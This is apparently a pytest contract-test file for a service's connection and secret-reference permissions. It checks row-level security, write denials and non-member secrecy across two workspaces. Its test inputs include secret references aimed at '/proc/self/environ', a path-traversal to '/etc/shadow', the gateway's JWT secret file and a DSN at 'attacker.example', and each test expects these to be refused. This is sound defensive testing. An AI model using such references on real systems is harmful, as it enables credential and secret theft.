"""The security matrix of connections and secret references, across two workspaces.

Who reads which rows of ops.connections and ops.secrets_refs (row level security), that no
role writes them directly (service_role included), who may call each connection function
(viewer, developer, admin and executor of W1, members of W2, a member of nothing, a JWT
without a sub, anon, service_role), and that a non-member learns nothing: a connection of
another workspace, a missing one and a missing workspace get the same answer. The function
matrix runs over direct SQL and through the real gateway.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import httpx
import psycopg
import pytest
from psycopg import sql

from control_room.db.store import ContractError, acting_as
from tests.contract.conftest import (
    ANON,
    SERVICE,
    Contract,
    HttpContract,
    Principal,
    World,
    make_world,
    new_run,
    phase,
    user,
)
from tests.contract.snapshot import snapshot
from tests.helpers import running_gateway

TABLES = ("connections", "secrets_refs")
NO_SUB = Principal("authenticated", None, "no-sub")


@dataclass
class Setup:
    world: World
    outsider: Principal                # authenticated, member of nothing
    both: Principal                    # viewer of W1 and admin of W2
    ids: dict[str, dict[str, str]]     # "w1"/"w2" -> connection name -> id

    def principal(self, label: str) -> Principal:
        if label == "anon":
            return ANON
        if label == "service_role":
            return SERVICE
        if label == "outsider":
            return self.outsider
        if label == "no-sub":
            return NO_SUB
        return self.world.members[label]


@pytest.fixture(params=["sql", "http"])
def contract(request: pytest.FixtureRequest, conn: psycopg.Connection[Any],
             db_url: str) -> Iterator[Contract]:
    """The contract over direct SQL, and through the real gateway."""
    if request.param == "sql":
        yield Contract(conn)
        return
    with running_gateway(db_url) as url, httpx.Client(base_url=url, timeout=30) as client:
        yield HttpContract(conn, client)


@pytest.fixture
def direct(conn: psycopg.Connection[Any]) -> Contract:
    """Direct SQL as service_role: how the data of each test is made."""
    return Contract(conn)


def register(direct: Contract, ws: str, name: str, type_: str, secrets: dict[str, str]) -> str:
    made = direct.call("create_connection", {"workspace_id": ws, "name": name, "type": type_,
                                             "config": {"host": f"{name}.internal"},
                                             "secrets": secrets})
    return str(made["id"])


@pytest.fixture
def setup(direct: Contract) -> Setup:
    """W1: erp and lake (3 secret references); W2: erp, crm and api (4 references)."""
    world = make_world(direct)
    outsider, both = user("outsider"), user("both")
    direct.call("add_member", {"workspace_id": world.w1, "principal_id": str(both.sub),
                               "role": "viewer"})
    direct.call("add_member", {"workspace_id": world.w2, "principal_id": str(both.sub),
                               "role": "admin"})
    ids = {
        "w1": {
            "erp": register(direct, world.w1, "erp", "postgres",
                            {"password": "env:W1_ERP_PASSWORD"}),
            "lake": register(direct, world.w1, "lake", "s3",
                             {"access_key_id": "env:W1_LAKE_KEY",
                              "secret_access_key": "file:/run/secrets/w1-lake"}),
        },
        "w2": {
            "erp": register(direct, world.w2, "erp", "postgres",
                            {"password": "env:W2_ERP_PASSWORD"}),
            "crm": register(direct, world.w2, "crm", "http", {"token": "env:W2_CRM_TOKEN"}),
            "api": register(direct, world.w2, "api", "trino",
                            {"password": "file:/run/secrets/w2-api",
                             "user": "env:W2_API_USER"}),
        },
    }
    return Setup(world, outsider, both, ids)


def visible(conn: psycopg.Connection[Any], who: Principal, table: str) -> set[tuple[str, str]]:
    """(workspace id, row) pairs of a table the principal's SELECT returns."""
    with acting_as(conn, role=who.role, sub=str(who.sub) if who.sub else None, claims=who.claims):
        rows = conn.execute(sql.SQL("select workspace_id::text, t::text from ops.{} t").format(
            sql.Identifier(table))).fetchall()
    return {(str(ws), str(row)) for ws, row in rows}


# ---------------------------------------------------------------------------------------------
# the tables: row level security and grants
# ---------------------------------------------------------------------------------------------

def test_members_read_exactly_their_workspaces_connections_and_references(
    conn: psycopg.Connection[Any], setup: Setup
) -> None:
    w = setup.world
    expected_rows = {"connections": {w.w1: 2, w.w2: 3}, "secrets_refs": {w.w1: 3, w.w2: 4}}
    readers = {
        "admin1": {w.w1}, "dev1": {w.w1}, "viewer1": {w.w1}, "exec1": {w.w1},
        "admin2": {w.w2}, "dev2": {w.w2}, "viewer2": {w.w2}, "exec2": {w.w2},
        "both": {w.w1, w.w2}, "outsider": set(), "no-sub": set(),
    }
    for table in TABLES:
        everything = visible(conn, SERVICE, table)
        by_ws: dict[str, int] = {}
        for ws, _ in everything:
            by_ws[ws] = by_ws.get(ws, 0) + 1
        assert by_ws == expected_rows[table], table
        for label, workspaces in readers.items():
            who = setup.both if label == "both" else setup.principal(label)
            seen = visible(conn, who, table)
            assert {ws for ws, _ in seen} == workspaces, f"{label} reading ops.{table}"
            assert seen == {row for row in everything if row[0] in workspaces}, label


def test_what_a_member_reads_is_references_never_values(
    conn: psycopg.Connection[Any], setup: Setup
) -> None:
    with acting_as(conn, role="authenticated", sub=str(setup.world.viewer1.sub)):
        rows = conn.execute("select field, reference from ops.secrets_refs order by 1").fetchall()
    assert rows == [("access_key_id", "env:W1_LAKE_KEY"), ("password", "env:W1_ERP_PASSWORD"),
                    ("secret_access_key", "file:/run/secrets/w1-lake")]


def test_anon_reads_neither_table(conn: psycopg.Connection[Any], setup: Setup) -> None:
    for table in TABLES:
        with pytest.raises(psycopg.errors.InsufficientPrivilege), acting_as(conn, role="anon"):
            conn.execute(sql.SQL("select count(*) from ops.{}").format(sql.Identifier(table)))


def test_nobody_writes_the_tables_directly(conn: psycopg.Connection[Any], setup: Setup) -> None:
    """Not anon, not a member of any role, not service_role: every write goes through the
    functions, which check the values (a direct insert would bypass the secret rules)."""
    w = setup.world
    ws1, erp1 = w.w1, setup.ids["w1"]["erp"]
    statements: dict[str, sql.SQL | sql.Composed] = {
        "insert connection": sql.SQL(
            "insert into ops.connections (workspace_id, name, type, config)"
            " values ({}, 'sneaky', 'postgres', '{{\"password\": \"hunter2\"}}')").format(
                sql.Literal(ws1)),
        "insert reference": sql.SQL(
            "insert into ops.secrets_refs (connection_id, workspace_id, field, reference)"
            " values ({}, {}, 'extra', 'file:/proc/self/environ')").format(
                sql.Literal(erp1), sql.Literal(ws1)),
        "update reference": sql.SQL(
            "update ops.secrets_refs set reference = 'env:CONTROL_ROOM_TOKEN'"),
        "update connection": sql.SQL("update ops.connections set config = '{}'"),
        "delete connection": sql.SQL("delete from ops.connections"),
        "delete reference": sql.SQL("delete from ops.secrets_refs"),
        "truncate": sql.SQL("truncate ops.secrets_refs, ops.connections"),
    }
    writers = [ANON, SERVICE, NO_SUB, setup.outsider, setup.both] + [
        w.members[label] for label in ("admin1", "dev1", "viewer1", "exec1", "admin2")]
    before = snapshot(conn)
    for who in writers:
        for what, statement in statements.items():
            with pytest.raises(psycopg.errors.InsufficientPrivilege), acting_as(
                conn, role=who.role, sub=str(who.sub) if who.sub else None, claims=who.claims
            ):
                conn.execute(statement)
                pytest.fail(f"{who} could {what}")
    assert snapshot(conn) == before


def test_the_table_checks_hold_even_for_the_owner(conn: psycopg.Connection[Any],
                                                  setup: Setup) -> None:
    """Below the functions, the tables refuse a malformed name or reference themselves."""
    ws1, erp1 = setup.world.w1, setup.ids["w1"]["erp"]
    for statement, args in (
        ("insert into ops.secrets_refs (connection_id, workspace_id, field, reference)"
         " values (%s, %s, 'x', 'hunter2')", (erp1, ws1)),
        ("insert into ops.secrets_refs (connection_id, workspace_id, field, reference)"
         " values (%s, %s, 'x', 'file:/run/../etc/shadow')", (erp1, ws1)),
        ("insert into ops.connections (workspace_id, name, type) values (%s, 'Bad', 'http')",
         (ws1,)),
        ("insert into ops.connections (workspace_id, name, type) values (%s, 'ok', 'mysql')",
         (ws1,)),
    ):
        with pytest.raises(psycopg.errors.CheckViolation), conn.transaction():
            conn.execute(statement, args)
    # a reference belongs to its connection's workspace
    with pytest.raises(psycopg.errors.ForeignKeyViolation), conn.transaction():
        conn.execute("insert into ops.secrets_refs (connection_id, workspace_id, field, reference)"
                     " values (%s, %s, 'x', 'env:X')", (erp1, setup.world.w2))


# ---------------------------------------------------------------------------------------------
# the functions: who may call what
# ---------------------------------------------------------------------------------------------

LABELS = ("anon", "no-sub", "viewer1", "dev1", "admin1", "exec1", "admin2", "viewer2", "exec2",
          "outsider", "service_role")
OUTSIDE_W1 = frozenset({"admin2", "viewer2", "exec2", "outsider"})
ADMINS = frozenset({"admin1", "service_role"})
TESTERS = frozenset({"admin1", "dev1", "service_role"})
READERS = frozenset({"viewer1", "dev1", "admin1", "exec1", "service_role"})


def expected_status(label: str, allowed: frozenset[str]) -> int:
    if label == "anon":
        return 401          # EXECUTE is not granted (42501)
    if label == "no-sub":
        return 401          # a call needs an authenticated principal
    if label in allowed:
        return 0
    return 404 if label in OUTSIDE_W1 else 403


def calls(setup: Setup, direct: Contract) -> list[tuple[str, frozenset[str], Any]]:
    """(function, who may, a function making fresh arguments in W1)."""
    w1 = setup.world.w1

    def fresh_name() -> str:
        return f"c_{uuid.uuid4().hex[:10]}"

    def existing() -> str:
        name = fresh_name()
        register(direct, w1, name, "postgres", {"password": "env:PGPASSWORD"})
        return name

    return [
        ("create_connection", ADMINS,
         lambda: {"workspace_id": w1, "name": fresh_name(), "type": "http",
                  "config": {"url": "https://x.example"}, "secrets": {"token": "env:X_TOKEN"}}),
        ("update_connection", ADMINS,
         lambda: {"workspace_id": w1, "name": existing(),
                  "secrets": {"password": "file:/run/secrets/pg"}}),
        ("delete_connection", ADMINS, lambda: {"workspace_id": w1, "name": existing()}),
        ("record_connection_test", TESTERS,
         lambda: {"workspace_id": w1, "name": existing(), "ok": False, "message": "refused"}),
        ("list_connections", READERS, lambda: {"workspace_id": w1}),
        ("get_connection", READERS, lambda: {"workspace_id": w1, "name": "erp"}),
    ]


def test_who_may_call_each_connection_function(
    conn: psycopg.Connection[Any], contract: Contract, direct: Contract, setup: Setup
) -> None:
    """Every function as every principal; every refusal writes nothing. All mismatches are
    reported together."""
    wrong: list[str] = []
    for fn, allowed, make_args in calls(setup, direct):
        for label in LABELS:
            args = make_args()
            who = setup.principal(label)
            status = expected_status(label, allowed)
            before = snapshot(conn)
            try:
                result = contract.call(fn, args, as_=who)
            except ContractError as err:
                if status == 0:
                    wrong.append(f"{fn} as {label}: expected success, got {err.status} {err}")
                elif err.status != status:
                    wrong.append(f"{fn} as {label}: expected {status}, got {err.status} {err}")
                elif status in (403, 404) and err.code != {403: "forbidden",
                                                           404: "not_found"}[status]:
                    wrong.append(f"{fn} as {label}: code {err.code}")
                elif snapshot(conn) != before:
                    wrong.append(f"{fn} as {label}: refused, but it wrote something")
                continue
            if status != 0:
                wrong.append(f"{fn} as {label}: expected {status}, got success {result!r:.200}")
            elif fn == "list_connections":
                if {c["workspace_id"] for c in result} != {setup.world.w1}:
                    wrong.append(f"{fn} as {label}: listed {result!r:.200}")
            elif result["workspace_id"] != setup.world.w1:
                wrong.append(f"{fn} as {label}: answered {result!r:.200}")
    assert wrong == []


def test_a_non_member_learns_nothing_about_another_workspaces_connections(
    conn: psycopg.Connection[Any], contract: Contract, setup: Setup
) -> None:
    """For a member of W2 or of nothing, W1's existing connection, a name W1 does not have and
    a workspace that does not exist all get the same 404 with the same message."""
    w = setup.world
    missing_ws = str(uuid.uuid4())
    before = snapshot(conn)
    for who in (w.admin2, w.viewer2, w.exec2, setup.outsider):
        for fn, extra in (
            ("get_connection", {}),
            ("update_connection", {"config": {"host": "mine-now"}}),
            ("delete_connection", {}),
            ("record_connection_test", {"ok": True, "message": "x"}),
            ("create_connection", {"type": "postgres"}),
        ):
            answers = set()
            for ws, name in ((w.w1, "erp"), (w.w1, "nothing_here"), (missing_ws, "erp")):
                err = contract.error(fn, {"workspace_id": ws, "name": name, **extra}, as_=who)
                answers.add((err.status, err.code, err.message, err.details))
            assert answers == {(404, "not_found", "workspace not found", None)}, (fn, who)
        listed = {(e.status, e.code, e.message) for e in (
            contract.error("list_connections", {"workspace_id": ws}, as_=who)
            for ws in (w.w1, missing_ws))}
        assert listed == {(404, "not_found", "workspace not found")}, str(who)
    assert snapshot(conn) == before


def test_a_viewer_of_w1_cannot_read_w2s_connections(
    conn: psycopg.Connection[Any], contract: Contract, setup: Setup
) -> None:
    w = setup.world
    viewer = w.viewer1
    assert [c["name"] for c in contract.call("list_connections", {"workspace_id": w.w1},
                                              as_=viewer)] == ["erp", "lake"]
    erp = contract.call("get_connection", {"workspace_id": w.w1, "name": "erp"}, as_=viewer)
    assert erp["id"] == setup.ids["w1"]["erp"]
    assert erp["secrets"] == {"password": "env:W1_ERP_PASSWORD"}
    for fn, args in (("list_connections", {"workspace_id": w.w2}),
                     ("get_connection", {"workspace_id": w.w2, "name": "crm"}),
                     ("get_connection", {"workspace_id": w.w2, "name": "erp"})):
        err = contract.error(fn, args, as_=viewer)
        assert (err.status, err.code) == (404, "not_found"), fn
    for table in TABLES:
        assert {ws for ws, _ in visible(conn, viewer, table)} == {w.w1}
    # the principal in both workspaces reads each under its own role there
    assert len(contract.call("list_connections", {"workspace_id": w.w2}, as_=setup.both)) == 3
    err = contract.error("delete_connection", {"workspace_id": w.w1, "name": "erp"},
                         as_=setup.both)
    assert (err.status, err.code) == (403, "forbidden")     # a viewer in W1
    gone = contract.call("delete_connection", {"workspace_id": w.w2, "name": "crm"},
                         as_=setup.both)
    assert gone["workspace_id"] == w.w2


def test_runs_and_claims_stay_in_their_workspace(
    contract: Contract, direct: Contract, setup: Setup
) -> None:
    """A developer of W1 cannot make a run name W2's connection, nor bring its own inline with
    a secret reference of its choosing (the attack of issue 10: `secret:file:` of the
    gateway's JWT secret); the claim of a phase naming `erp` carries W1's, not W2's."""
    w = setup.world
    err = contract.error("create_run", {
        "workspace_id": w.w1, "spec_slug": "demo", "git_sha": "0123abc",
        "phases": [phase("p", params={"connections": ["crm"]})]}, as_=w.dev1)
    assert (err.status, err.code) == (400, "invalid_argument")
    assert "phase p names connection crm" in err.message
    err = contract.error("create_run", {
        "workspace_id": w.w1, "spec_slug": "demo", "git_sha": "0123abc",
        "phases": [phase("p", params={"connections": ["stolen"]})],
        "input_manifest": {"connections": {"stolen": {
            "type": "postgres", "dsn": "postgresql://x@attacker.example/db",
            "password": "secret:file:/proc/self/cwd/state/jwt_secret"}}}}, as_=w.dev1)
    assert (err.status, err.code) == (400, "invalid_argument")
    assert "input_manifest carries connections" in err.message
    run = new_run(contract, w.w1, [phase("p", params={"connections": ["erp"]})], as_=w.dev1)
    claim = contract.call("claim_phase", {"run_id": run["id"]}, as_=w.exec1)
    assert claim["connections"] == {"erp": {
        "type": "postgres", "config": {"host": "erp.internal"},
        "secrets": {"password": "env:W1_ERP_PASSWORD"}, "version": 1}}
    assert "W2_ERP_PASSWORD" not in json.dumps(claim)
    # W2's executor cannot claim it, so never sees W1's references either
    assert contract.call("claim_phase", {}, as_=w.exec2) is None


def test_only_admins_register_the_references_a_worker_may_resolve(
    contract: Contract, setup: Setup
) -> None:
    """The chain of issue 10 starts with a member choosing what the worker reads: a viewer,
    a developer or an executor of W1 cannot add or change a reference, not even by
    replacing the secrets map of an existing connection."""
    w = setup.world
    for who in (w.viewer1, w.dev1, w.exec1):
        for fn, args in (
            ("create_connection", {"workspace_id": w.w1, "name": "mine", "type": "postgres",
                                   "secrets": {"password": "file:/proc/self/environ"}}),
            ("update_connection", {"workspace_id": w.w1, "name": "erp",
                                   "secrets": {"password": "env:CONTROL_ROOM_TOKEN"}}),
        ):
            err = contract.error(fn, args, as_=who)
            assert (err.status, err.code) == (403, "forbidden"), (fn, str(who))
            assert "admin" in err.message
    erp = contract.call("get_connection", {"workspace_id": w.w1, "name": "erp"}, as_=w.viewer1)
    assert erp["secrets"] == {"password": "env:W1_ERP_PASSWORD"} and erp["version"] == 1
